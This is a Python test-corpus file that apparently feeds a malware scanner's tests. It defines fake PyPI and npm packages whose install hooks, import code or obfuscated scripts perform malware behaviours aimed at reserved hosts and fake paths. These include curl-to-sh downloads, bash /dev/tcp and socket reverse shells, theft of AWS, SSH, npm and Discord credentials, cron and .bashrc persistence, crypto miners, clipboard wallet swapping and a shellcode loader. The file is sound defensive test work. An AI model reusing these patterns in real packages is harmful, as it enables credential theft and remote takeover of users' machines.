# ruff: noqa: E501  (sample sources are data: their lines are kept whole to stay readable)
"""Inert malicious-behaving samples: each does what real malware does, aimed at reserved
destinations and fake paths. Blatant ones run at install; subtle ones only on import,
split the payload across files, or hide it behind encodings and minification."""

from __future__ import annotations

import base64
import marshal
import zlib

from tests.corpus.samples import Kind, Sample

HOME = "/nonexistent/home"
INERT = "print('inert corpus payload')"
INERT_B64 = base64.b64encode(INERT.encode()).decode()
LAYERED = base64.b64encode(zlib.compress(marshal.dumps(compile(INERT, "<p>", "exec")))).decode()
JS_INERT_B64 = base64.b64encode(b"console.log('inert corpus payload')").decode()
SETUP = "from setuptools import setup\n"


def py(name: str, technique: str, files: dict[str, str], kind: Kind = "sdist") -> Sample:
    return Sample(name, "1.0.0", kind, "malicious", technique, files)


def npm(
    name: str,
    technique: str,
    files: dict[str, str],
    scripts: dict[str, str],
    manifest: dict[str, object] | None = None,
) -> Sample:
    return Sample(name, "1.0.0", "npm", "malicious", technique, files, scripts, manifest or {})


# ES-module only ("type": "module", an exports map, no main): nothing runs at install; on
# import a missing dependency is linked and a split-off module sends the npm token. The
# dynamic sandbox test runs this one (its HOME holds bait; *.invalid is sinkholed).
ESM_IMPORT_STEALER = npm(
    "esm-date-stamp",
    "ES module sends the npm token when imported, from a second module",
    {
        "lib/index.js": (
            "import { formatISO } from 'date-fns';\n"
            "import { report } from './usage.js';\n\n"
            "export function stamp(date) {\n  return formatISO(date);\n}\n\n"
            "report();\n"
        ),
        "lib/usage.js": (
            "import { readFileSync } from 'node:fs';\n"
            "import { homedir } from 'node:os';\n"
            "import http from 'node:http';\n\n"
            "export function report() {\n"
            "  const token = readFileSync(`${homedir()}/.npmrc`, 'utf8');\n"
            "  const request = http.request({ host: 'esm-usage.invalid', path: '/v1/usage', method: 'POST' });\n"
            "  request.on('error', () => {});\n"
            "  request.end(token);\n"
            "}\n"
        ),
    },
    {},
    {"type": "module", "exports": {".": {"import": "./lib/index.js", "default": "./lib/index.js"}}},
)


PYPI = [
    py(
        "setup-exec-b64",
        "setup.py executes base64 at install",
        {
            "setup.py": f"import base64\n{SETUP}exec(base64.b64decode('{INERT_B64}'))\nsetup(name='x')\n",
        },
    ),
    py(
        "setup-exec-download",
        "setup.py executes a download at install",
        {
            "setup.py": (
                f"import urllib.request\n{SETUP}"
                "exec(urllib.request.urlopen('http://stage.invalid/p.py').read())\nsetup(name='x')\n"
            ),
        },
    ),
    py(
        "cmdclass-dropper",
        "cmdclass install downloads and runs a binary",
        {
            "setup.py": (
                "import os, subprocess, tempfile, urllib.request\n"
                f"{SETUP}from setuptools.command.install import install\n\n"
                "class Install(install):\n"
                "    def run(self):\n"
                "        target = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
                "        urllib.request.urlretrieve('http://203.0.113.20/svc.exe', target)\n"
                "        subprocess.Popen([target])\n"
                "        install.run(self)\n\n"
                "setup(name='x', cmdclass={'install': Install})\n"
            ),
        },
    ),
    py(
        "import-aws-stealer",
        "reads cloud credentials and posts them, on import only",
        {
            "awsutil/__init__.py": (
                "import requests\n\n"
                f"with open('{HOME}/.aws/credentials') as handle:\n"
                "    creds = handle.read()\n"
                "requests.post('https://collector.invalid/aws', data={'c': creds}, timeout=5)\n"
            ),
        },
    ),
    py(
        "split-ssh-stealer",
        "SSH key read in one module, sent from another",
        {
            "sshtool/__init__.py": "from .send import ship\nship()\n",
            "sshtool/keys.py": (
                "from pathlib import Path\n\n"
                f"def read_key():\n    return Path('{HOME}/.ssh/id_rsa').read_bytes()\n"
            ),
            "sshtool/send.py": (
                "import socket\n\nfrom .keys import read_key\n\n"
                "def ship():\n"
                "    conn = socket.create_connection(('198.51.100.30', 443))\n"
                "    conn.sendall(read_key())\n"
            ),
        },
    ),
    py(
        "env-dump-wheel",
        "posts the whole environment, from a wheel",
        {
            "envdump/__init__.py": (
                "import json, os, urllib.request\n"
                "body = json.dumps(dict(os.environ)).encode()\n"
                "urllib.request.urlopen('http://198.51.100.31/e', data=body)\n"
            ),
        },
        kind="wheel",
    ),
    py(
        "dns-recon-setup",
        "dependency-confusion recon over DNS at install",
        {
            "setup.py": (
                "import getpass, socket\n"
                f"{SETUP}"
                "tag = (socket.gethostname() + '.' + getpass.getuser()).encode().hex()\n"
                "try:\n    socket.gethostbyname(tag + '.recon.invalid')\nexcept OSError:\n    pass\n"
                "setup(name='x')\n"
            ),
        },
    ),
    py(
        "import-reverse-shell",
        "reverse shell on import",
        {
            "rshell/__init__.py": (
                "import os, pty, socket\n"
                "s = socket.socket()\ns.connect(('203.0.113.40', 4444))\n"
                "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
                "pty.spawn('/bin/sh')\n"
            ),
        },
    ),
    py(
        "setup-bash-tcp",
        "bash /dev/tcp reverse shell at install",
        {
            "setup.py": (
                f"import os\n{SETUP}"
                "os.system('bash -c \"bash -i >& /dev/tcp/198.51.100.41/4444 0>&1\"')\n"
                "setup(name='x')\n"
            ),
        },
    ),
    py(
        "import-bashrc-persist",
        "appends itself to the shell rc file on import",
        {
            "persist/__init__.py": (
                f"RC = '{HOME}/.bashrc'\n"
                "with open(RC, 'a') as handle:\n"
                "    handle.write('python3 -m persist.agent &\\n')\n"
            ),
        },
    ),
    py(
        "setup-cron-persist",
        "installs a crontab entry at install",
        {
            "setup.py": (
                f"import subprocess\n{SETUP}"
                "subprocess.run('(crontab -l; echo \"@reboot python3 -m agent\") | crontab -', shell=True)\n"
                "setup(name='x')\n"
            ),
        },
    ),
    py(
        "pth-exec",
        "a .pth file that executes base64 on every interpreter start",
        {
            "zz_helper.pth": f"import base64; exec(base64.b64decode('{INERT_B64}'))\n",
            "helper/__init__.py": "",
        },
        kind="wheel",
    ),
    py(
        "setup-silent-curl",
        "silent background download at install",
        {
            "setup.py": (
                f"import subprocess\n{SETUP}"
                "subprocess.Popen('curl -s http://203.0.113.42/i | sh', shell=True,\n"
                "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
                "setup(name='x')\n"
            ),
        },
    ),
    py(
        "setup-powershell-enc",
        "encoded PowerShell in a cross-platform package",
        {
            "setup.py": (
                f"import os, sys\n{SETUP}"
                "if sys.platform == 'win32':\n"
                "    os.system('powershell -w hidden -enc ZQB4AGkAdAAgADAAOwA=')\n"
                "setup(name='x')\n"
            ),
        },
    ),
    py(
        "import-shellcode",
        "Windows shellcode loader on import",
        {
            "loader/__init__.py": (
                "import ctypes, sys\n"
                "if sys.platform == 'win32':\n"
                "    k = ctypes.windll.kernel32\n"
                "    mem = k.VirtualAlloc(0, 4096, 0x3000, 0x40)\n"
                "    k.RtlMoveMemory(mem, b'\\x90' * 16, 16)\n"
                "    k.CreateThread(0, 0, mem, 0, 0, 0)\n"
            ),
        },
    ),
    py(
        "import-miner",
        "starts a miner on import",
        {
            "fastmath/__init__.py": (
                "import subprocess\n"
                "subprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.invalid:3333', '--donate-level', '1'])\n"
            ),
        },
    ),
    py(
        "clipboard-clipper",
        "swaps wallet addresses in the clipboard",
        {
            "clipper/__init__.py": (
                "import re, threading, pyperclip\n"
                "MINE = '0x" + "1" * 40 + "'\n"
                "WALLET = re.compile(r'^0x[a-fA-F0-9]{40}$')\n\n"
                "def watch():\n"
                "    if WALLET.match(pyperclip.paste()):\n"
                "        pyperclip.copy(MINE)\n\n"
                "threading.Thread(target=watch, daemon=True).start()\n"
            ),
        },
    ),
    py(
        "layered-marshal",
        "marshal/zlib/base64 layers executed on import",
        {
            "layered/__init__.py": (
                "import base64 as b, marshal as m, zlib as z\n"
                f"_d = '{LAYERED}'\n"
                "exec(m.loads(z.decompress(b.b64decode(_d))))\n"
            ),
        },
    ),
    py(
        "reqeusts",
        "typosquat of a popular name with a command in setup.py",
        {
            "setup.py": f"import os\n{SETUP}os.system('echo installed')\nsetup(name='reqeusts')\n",
        },
    ),
    py(
        "discord-token-grabber",
        "steals chat-app tokens and posts them to a webhook",
        {
            "grabber/__init__.py": (
                "import glob, os, urllib.request\n"
                f"STORE = '{HOME}/.config/discord/Local Storage/leveldb'\n"
                "HOOK = 'https://chat.invalid/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz'\n"
                "found = []\n"
                "for path in glob.glob(os.path.join(STORE, '*.ldb')):\n"
                "    with open(path, errors='ignore') as handle:\n"
                "        found.append(handle.read())\n"
                "req = urllib.request.Request(HOOK, data='\\n'.join(found).encode())\n"
                "urllib.request.urlopen(req)\n"
            ),
        },
    ),
]

NPM = [
    npm(
        "pipe-to-shell",
        "postinstall pipes a download into sh",
        {},
        {
            "postinstall": "curl -s http://203.0.113.50/i.sh | sh",
        },
    ),
    npm(
        "env-exfil",
        "preinstall posts process.env",
        {
            "index.js": (
                "const https = require('https');\n"
                "const req = https.request({ hostname: '203.0.113.51', method: 'POST', path: '/e' });\n"
                "req.write(JSON.stringify(process.env));\nreq.end();\n"
            ),
        },
        {"preinstall": "node index.js"},
    ),
    npm(
        "npmrc-stealer",
        "postinstall sends the npm token to a webhook",
        {
            "scripts/setup.js": (
                "const fs = require('fs');\nconst path = require('path');\n"
                f"const rc = fs.readFileSync(path.join('{HOME}', '.npmrc'), 'utf8');\n"
                "fetch('https://chat.invalid/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz', {\n"
                "  method: 'POST', body: JSON.stringify({ content: rc }),\n});\n"
            ),
        },
        {"postinstall": "node scripts/setup.js"},
    ),
    npm(
        "dns-recon",
        "dependency-confusion recon over DNS at install",
        {
            "index.js": (
                "const dns = require('dns');\nconst os = require('os');\n"
                "const tag = Buffer.from(`${os.hostname()}|${os.userInfo().username}`).toString('hex');\n"
                "dns.lookup(`${tag}.recon.invalid`, () => {});\n"
            ),
        },
        {"preinstall": "node index.js"},
    ),
    npm(
        "require-download-eval",
        "downloads and evaluates code when required",
        {
            "index.js": (
                "const https = require('https');\n"
                "https.get('https://stage.invalid/s.js', (res) => {\n"
                "  let code = '';\n  res.on('data', (c) => { code += c; });\n"
                "  res.on('end', () => { eval(code); });\n});\n"
                "module.exports = () => 42;\n"
            ),
        },
        {},
    ),
    npm(
        "install-eval-b64",
        "install script evaluates base64",
        {
            "install.js": f"eval(Buffer.from('{JS_INERT_B64}', 'base64').toString('utf8'));\n",
        },
        {"install": "node install.js"},
    ),
    npm(
        "string-array",
        "javascript-obfuscator output run at install",
        {
            "lib/init.js": (
                "var _0x3f1a=['log','inert','corpus','payload','join','map','call'];"
                "(function(_0x2b4c,_0x1d9e){var _0x5a7f=function(_0x4e2d){while(--_0x4e2d){"
                "_0x2b4c['push'](_0x2b4c['shift']());}};_0x5a7f(++_0x1d9e);}(_0x3f1a,0x1a3));"
                "var _0x7c2e=function(_0x6b1d){return _0x3f1a[_0x6b1d];};"
                "console[_0x7c2e(0)](_0x7c2e(1));\n"
            ),
        },
        {"postinstall": "node lib/init.js"},
    ),
    npm(
        "minified-stealer",
        "minified install script stealing an SSH key",
        {
            "dist/i.js": (
                "const a=require('fs'),b=require('https');"
                f"const k=a.readFileSync('{HOME}/.ssh/id_rsa');"
                "const r=b.request({hostname:'collect.invalid',method:'POST'});r.end(k);"
                + "var x=["
                + ",".join(str(i) for i in range(400))
                + "];\n"
            ),
        },
        {"postinstall": "node dist/i.js"},
    ),
    npm(
        "require-reverse-shell",
        "reverse shell when required",
        {
            "index.js": (
                "const net = require('net');\nconst { spawn } = require('child_process');\n"
                "const sock = new net.Socket();\n"
                "sock.connect(4444, '198.51.100.52', () => {\n"
                "  const sh = spawn('/bin/sh', []);\n"
                "  sock.pipe(sh.stdin);\n  sh.stdout.pipe(sock);\n  sh.stderr.pipe(sock);\n});\n"
            ),
        },
        {},
    ),
    npm(
        "bashrc-persist",
        "postinstall appends to the shell rc file",
        {
            "setup.js": (
                "const fs = require('fs');\n"
                f"fs.appendFileSync('{HOME}/.bashrc', '\\nnode ~/.cache/agent.js &\\n');\n"
            ),
        },
        {"postinstall": "node setup.js"},
    ),
    npm(
        "install-miner",
        "postinstall starts a miner",
        {
            "miner.js": (
                "const { spawn } = require('child_process');\n"
                "spawn('./bin/xmrig', ['-o', 'stratum+tcp://pool.invalid:4444', '--donate-level', '1'], "
                "{ detached: true, stdio: 'ignore' }).unref();\n"
            ),
        },
        {"postinstall": "node miner.js"},
    ),
    npm(
        "clip-watch",
        "swaps wallet addresses in the clipboard",
        {
            "index.js": (
                "const clipboardy = require('clipboardy');\n"
                "const MINE = '0x" + "2" * 40 + "';\n"
                "setInterval(() => {\n"
                "  if (/^0x[a-fA-F0-9]{40}$/.test(clipboardy.readSync())) clipboardy.writeSync(MINE);\n"
                "}, 500);\n"
            ),
        },
        {},
    ),
    npm(
        "split-key-stealer",
        "SSH key read in one file, sent from another, on require",
        {
            "index.js": "require('./lib/send');\nmodule.exports = {};\n",
            "lib/keys.js": (
                "const fs = require('fs');\n"
                f"function loadKey() {{ return fs.readFileSync('{HOME}/.ssh/id_ed25519', 'utf8'); }}\n"
                "module.exports = { loadKey };\n"
            ),
            "lib/send.js": (
                "const http = require('http');\nconst { loadKey } = require('./keys');\n"
                "const req = http.request('http://198.51.100.53/k', { method: 'POST' });\n"
                "req.end(loadKey());\n"
            ),
        },
        {},
    ),
    npm(
        "expresss",
        "typosquat of a popular name with an install script",
        {
            "run.js": "console.log('thanks for installing');\n",
        },
        {"postinstall": "node run.js"},
    ),
    npm(
        "binary-dropper",
        "postinstall downloads a binary, writes and runs it",
        {
            "install.js": (
                "const https = require('https');\nconst fs = require('fs');\n"
                "const { execFile } = require('child_process');\n"
                "const target = '/tmp/.corpus-agent';\n"
                "https.get('https://stage.invalid/agent', (res) => {\n"
                "  const out = fs.createWriteStream(target, { mode: 0o755 });\n"
                "  res.pipe(out);\n  out.on('finish', () => execFile(target));\n});\n"
            ),
        },
        {"postinstall": "node install.js"},
    ),
    npm(
        "powershell-enc",
        "encoded PowerShell from an install script",
        {
            "install.js": (
                "const { exec } = require('child_process');\n"
                "if (process.platform === 'win32') {\n"
                "  exec('powershell.exe -NoP -W Hidden -EncodedCommand ZQB4AGkAdAAgADAAOwA=');\n}\n"
            ),
        },
        {"install": "node install.js"},
    ),
    npm(
        "hex-eval-import",
        "hex-escaped code evaluated when required",
        {
            "index.js": (
                "const s = '\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65\\x2e\\x6c\\x6f\\x67\\x28\\x31\\x29';\n"
                "eval('\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65\\x2e\\x6c\\x6f\\x67\\x28\\x31\\x29');\n"
            ),
        },
        {},
    ),
]

MALICIOUS: tuple[Sample, ...] = (*PYPI, *NPM, ESM_IMPORT_STEALER)
